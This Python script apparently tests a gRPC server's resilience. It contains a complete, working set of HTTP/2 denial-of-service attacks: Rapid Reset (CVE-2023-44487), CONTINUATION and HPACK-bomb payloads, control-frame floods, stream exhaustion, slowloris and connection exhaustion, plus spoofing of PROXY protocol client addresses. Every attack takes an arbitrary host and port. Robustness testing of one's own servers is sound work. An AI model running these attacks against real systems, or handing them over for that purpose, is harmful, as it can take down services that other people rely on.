#!/usr/bin/env python3
"""HTTP/2 abuse against a gRPC server on loopback, one attack per subcommand.

Usage: h2_abuse.py ATTACK HOST PORT [--count N] [--seconds S] [--linger S] [--tls]
                   [--proxy-from IPV4 --bind 127.0.0.3]

Frames are crafted with `hyperframe` and header blocks with `hpack` (both come with the
`h2` package), so the attacks can break the rules a well-behaved HTTP/2 library keeps.
Prints one JSON line: what the server did before it cut the abuser off:
  {"attack", "goaway": {"error_code", "last_stream_id", "debug"} | null,
   "rst_codes": {code: count}, "closed": bool, "frames_sent": n, "elapsed_s": s, ...}
Every loop is bounded by --count and --seconds.
"""

import argparse
import json
import select
import socket
import ssl
import struct
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 0x8


class Conn:
    """A raw HTTP/2 client connection that records what the server sends."""

    def __init__(self, host, port, handshake=True, tls=False, proxy_from=None, bind=None):
        source = (bind, 0) if bind else None
        self.sock = socket.create_connection((host, port), timeout=5, source_address=source)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        if proxy_from:
            # As a load balancer speaking the PROXY protocol (v1) for client `proxy_from`.
            line = "PROXY TCP4 %s %s 40000 %d\r\n" % (proxy_from, host, port)
            self.sock.sendall(line.encode())
        if tls:
            # Loopback test server with a throwaway certificate: no verification.
            ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            ctx.set_alpn_protocols(["h2"])
            self.sock = ctx.wrap_socket(self.sock, server_hostname="localhost")
        self.buf = b""
        self.goaway = None
        self.rst = {}
        self.closed = False  # the read side saw EOF or a reset
        self.send_failed = False
        self.frames_sent = 0
        self.responses = 0
        self.server_max_streams = None
        self.server_settings = {}
        self.enc = Encoder()
        self.host = "%s:%d" % (host, port)
        if handshake:
            self.send_raw(PREFACE + SettingsFrame(0).serialize())

    def send_raw(self, data):
        if self.closed or self.send_failed:
            return False
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            # The server closed: what it sent before (a GOAWAY) is still to be read.
            self.send_failed = True
            return False

    def send(self, frames):
        ok = self.send_raw(b"".join(f.serialize() for f in frames))
        if ok:
            self.frames_sent += len(frames)
        return ok

    def request_headers(self, stream_id, path="/grpc.health.v1.Health/Check", extra=()):
        return self.enc.encode(
            [
                (":method", "POST"),
                (":scheme", "http"),
                (":path", path),
                (":authority", self.host),
                ("content-type", "application/grpc"),
                ("te", "trailers"),
            ]
            + list(extra)
        )

    def poll(self, wait=0.0):
        """Reads whatever the server sent within `wait` seconds; records GOAWAY and RST."""
        deadline = time.monotonic() + wait
        while not self.closed:
            left = max(0.0, deadline - time.monotonic())
            # TLS may hold decrypted bytes select() does not see.
            buffered = isinstance(self.sock, ssl.SSLSocket) and self.sock.pending()
            if not buffered and not select.select([self.sock], [], [], left)[0]:
                return
            try:
                data = self.sock.recv(65536)
            except ssl.SSLWantReadError:
                continue
            except OSError:
                self.closed = True
                return
            if not data:
                self.closed = True
                return
            self.buf += data
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            kind, flags = self.buf[3], self.buf[4]
            stream = struct.unpack(">I", self.buf[5:9])[0] & 0x7FFFFFFF
            payload = self.buf[9 : 9 + length]
            self.buf = self.buf[9 + length :]
            if kind == 0x7:  # GOAWAY
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = {
                    "error_code": code,
                    "last_stream_id": last & 0x7FFFFFFF,
                    "debug": payload[8:].decode("utf-8", "replace"),
                }
            elif kind == 0x3:  # RST_STREAM
                code = struct.unpack(">I", payload[:4])[0]
                self.rst[code] = self.rst.get(code, 0) + 1
            elif kind == 0x1:  # HEADERS (a response)
                self.responses += 1
            elif kind == 0x4 and not flags & 0x1:  # SETTINGS: acknowledge
                for i in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack(">HI", payload[i : i + 6])
                    self.server_settings[str(ident)] = value
                    if ident == 0x3:
                        self.server_max_streams = value
                self.send_raw(SettingsFrame(0, flags=["ACK"]).serialize())

    def finish(self, wait):
        """Waits up to `wait` seconds for the server to close the connection."""
        deadline = time.monotonic() + wait
        while not self.closed and time.monotonic() < deadline:
            self.poll(min(0.2, max(0.0, deadline - time.monotonic())))

    def report(self, attack, started, **extra):
        out = {
            "attack": attack,
            "goaway": self.goaway,
            "rst_codes": {str(k): v for k, v in sorted(self.rst.items())},
            "closed": self.closed or self.send_failed,
            "frames_sent": self.frames_sent,
            "responses": self.responses,
            "elapsed_s": round(time.monotonic() - started, 3),
            "server_settings": self.server_settings,
        }
        out.update(extra)
        return out


def flood(conn, make_batch, args, stop_on_goaway=True):
    """Sends batches until the server cuts the connection off (or the bounds are hit)."""
    deadline = time.monotonic() + args.seconds
    sent = 0
    while sent < args.count and time.monotonic() < deadline and not conn.closed and not conn.send_failed:
        batch = make_batch(sent)
        if not conn.send(batch):
            break
        sent += len(batch)
        conn.poll(0)
        if stop_on_goaway and conn.goaway is not None:
            break
    conn.finish(args.linger)


def rapid_reset(conn, args):
    """HEADERS then RST_STREAM(CANCEL), repeated (CVE-2023-44487)."""

    def batch(sent):
        frames = []
        for i in range(50):
            sid = 2 * (sent // 2 + i) + 1
            frames.append(HeadersFrame(sid, conn.request_headers(sid), flags=["END_HEADERS"]))
            frames.append(RstStreamFrame(sid, error_code=CANCEL))
        return frames

    flood(conn, batch, args)


def continuation_flood(conn, args):
    """One HEADERS without END_HEADERS, then CONTINUATION frames that never end it."""
    first = HeadersFrame(1, conn.request_headers(1))  # no END_HEADERS
    conn.send([first])
    junk = b"\x00" * 1024

    def batch(_sent):
        return [ContinuationFrame(1, junk) for _ in range(50)]

    flood(conn, batch, args)


def hpack_bomb(conn, args):
    """A 3.5 KiB header in the HPACK dynamic table, then requests that repeat it by index:
    each header block is about 2 KiB on the wire and 7 MB decoded."""
    sid = 1
    deadline = time.monotonic() + args.seconds
    # The first request inserts the big header into the dynamic table (incremental
    # indexing); it fits the 4096-byte table with the request's other headers.
    block = conn.request_headers(sid, extra=[("bomb", "x" * 3500)])
    conn.send([HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"])])
    table = list(conn.enc.header_table.dynamic_entries)
    index = 62 + next(i for i, (name, _) in enumerate(table) if name == b"bomb")
    streams = 1
    while streams < min(args.count, 200) and time.monotonic() < deadline and not (conn.closed or conn.send_failed):
        sid += 2
        block = conn.request_headers(sid) + bytes([0x80 | index]) * 2000
        conn.send([HeadersFrame(sid, block, flags=["END_HEADERS", "END_STREAM"])])
        streams += 1
        conn.poll(0.005)
        if conn.goaway is not None:
            break
    conn.finish(args.linger)
    return {"requests": streams, "decoded_bytes_per_request": 2000 * 3536}


def ping_flood(conn, args):
    """Non-ACK PINGs as fast as possible (policed by server.keep_alive.min_time)."""

    def batch(sent):
        return [PingFrame(0, opaque_data=struct.pack(">Q", sent + i)) for i in range(10)]

    flood(conn, batch, args)


def settings_flood(conn, args):
    """SETTINGS frames as fast as possible: each one makes the server write an ACK."""

    def batch(_sent):
        return [SettingsFrame(0, settings={0x3: 100}) for _ in range(100)]

    flood(conn, batch, args)


def window_update_flood(conn, args):
    """WINDOW_UPDATE frames on the connection, increment 1: legitimate clients send many,
    so the server lets them through (each is a counter update in h2, no reply)."""

    def batch(_sent):
        return [WindowUpdateFrame(0, window_increment=1) for _ in range(100)]

    flood(conn, batch, args)


def empty_data_flood(conn, args):
    """One request, then DATA frames with nothing in them that never end the stream."""
    conn.send([HeadersFrame(1, conn.request_headers(1), flags=["END_HEADERS"])])

    def batch(_sent):
        return [DataFrame(1, b"") for _ in range(50)]

    flood(conn, batch, args)


def priority_flood(conn, args):
    """PRIORITY frames, which h2 ignores without a bound."""

    def batch(sent):
        return [PriorityFrame(2 * (sent + i) + 1, depends_on=0, stream_weight=16) for i in range(100)]

    flood(conn, batch, args)


def max_streams(conn, args):
    """Opens more streams than SETTINGS_MAX_CONCURRENT_STREAMS, none of them finished."""
    conn.poll(0.5)  # the server's SETTINGS
    limit = conn.server_max_streams or 100
    n = min(args.count, limit + 20)
    frames = []
    for i in range(n):
        sid = 2 * i + 1
        # Watch never ends on its own: every stream stays open.
        frames.append(
            HeadersFrame(
                sid,
                conn.request_headers(sid, path="/grpc.health.v1.Health/Watch"),
                flags=["END_HEADERS"],
            )
        )
        msg = b"\x00" + struct.pack(">I", 0)  # an empty HealthCheckRequest, not the end
        frames.append(DataFrame(sid, msg))
    conn.send(frames)
    conn.poll(2)
    return {"streams_opened": n, "server_max_concurrent_streams": limit}


def slowloris(conn, args, http1=False):
    """Starts the preface (or an HTTP/1.1 request) and never finishes it, one byte a
    second; measures how long the server keeps the connection."""
    started = time.monotonic()
    data = b"GET / HTTP/1.1\r\nHost: x\r\nX-a: " if http1 else PREFACE
    i = 0
    deadline = started + args.seconds
    while not (conn.closed or conn.send_failed) and time.monotonic() < deadline and i < len(data) - 1:
        conn.send_raw(data[i : i + 1])
        i += 1
        conn.poll(0.5)
    # Then nothing more: wait for the server to close.
    conn.finish(max(0.0, deadline - time.monotonic()))
    return {"bytes_sent": i, "closed_after_s": round(time.monotonic() - started, 3)}


def slow_headers(conn, args):
    """After a complete handshake, starts a request's header block (HEADERS without
    END_HEADERS) and never sends the CONTINUATION that would end it; measures how long the
    server keeps the connection."""
    started = time.monotonic()
    block = conn.request_headers(1)
    conn.send([HeadersFrame(1, block[: len(block) // 2])])  # no END_HEADERS flag
    conn.finish(args.seconds)
    return {"closed_after_s": round(time.monotonic() - started, 3)}


def silent(conn, args):
    """Connects and sends nothing (not even a TLS ClientHello); measures how long the
    server keeps the connection."""
    started = time.monotonic()
    conn.finish(args.seconds)
    return {"closed_after_s": round(time.monotonic() - started, 3)}


def idle_connections(args):
    """Opens --count connections that complete their handshake and then idle; counts how
    many the server closes at once (past server.max_connections)."""
    conns = []
    for _ in range(args.count):
        try:
            conns.append(Conn(args.host, args.port))
        except OSError:
            break
    time.sleep(1.0)
    for c in conns:
        c.poll(0)
    closed = sum(1 for c in conns if c.closed or c.send_failed)
    kept = len(conns) - closed
    for c in conns:
        c.sock.close()
    return {"attack": "idle_connections", "opened": len(conns), "closed": closed, "kept": kept}


ATTACKS = {
    "rapid_reset": rapid_reset,
    "continuation_flood": continuation_flood,
    "hpack_bomb": hpack_bomb,
    "ping_flood": ping_flood,
    "settings_flood": settings_flood,
    "priority_flood": priority_flood,
    "empty_data_flood": empty_data_flood,
    "window_update_flood": window_update_flood,
    "max_streams": max_streams,
    "slow_headers": slow_headers,
}


def main():
    p = argparse.ArgumentParser()
    p.add_argument(
        "attack",
        choices=sorted(
            list(ATTACKS) + ["slowloris", "slowloris_http1", "silent", "idle_connections"]
        ),
    )
    p.add_argument("host")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=100000)
    p.add_argument("--seconds", type=float, default=10.0)
    p.add_argument("--tls", action="store_true", help="TLS (ALPN h2), certificate not checked")
    p.add_argument(
        "--proxy-from", help="send a PROXY protocol v1 header naming this IPv4 client first"
    )
    p.add_argument("--bind", help="local (source) address of the connection, e.g. 127.0.0.3")
    p.add_argument(
        "--linger", type=float, default=5.0, help="seconds to wait for the server to close"
    )
    args = p.parse_args()
    started = time.monotonic()
    if args.attack == "idle_connections":
        print(json.dumps(idle_connections(args)), flush=True)
        return
    if args.attack == "silent":
        conn = Conn(args.host, args.port, handshake=False)
        extra = silent(conn, args)
    elif args.attack.startswith("slowloris"):
        conn = Conn(args.host, args.port, handshake=False, tls=args.tls)
        extra = slowloris(conn, args, http1=args.attack.endswith("http1"))
    else:
        conn = Conn(
            args.host, args.port, tls=args.tls, proxy_from=args.proxy_from, bind=args.bind
        )
        extra = ATTACKS[args.attack](conn, args) or {}
    print(json.dumps(conn.report(args.attack, started, **extra)), flush=True)
    conn.sock.close()


if __name__ == "__main__":
    main()
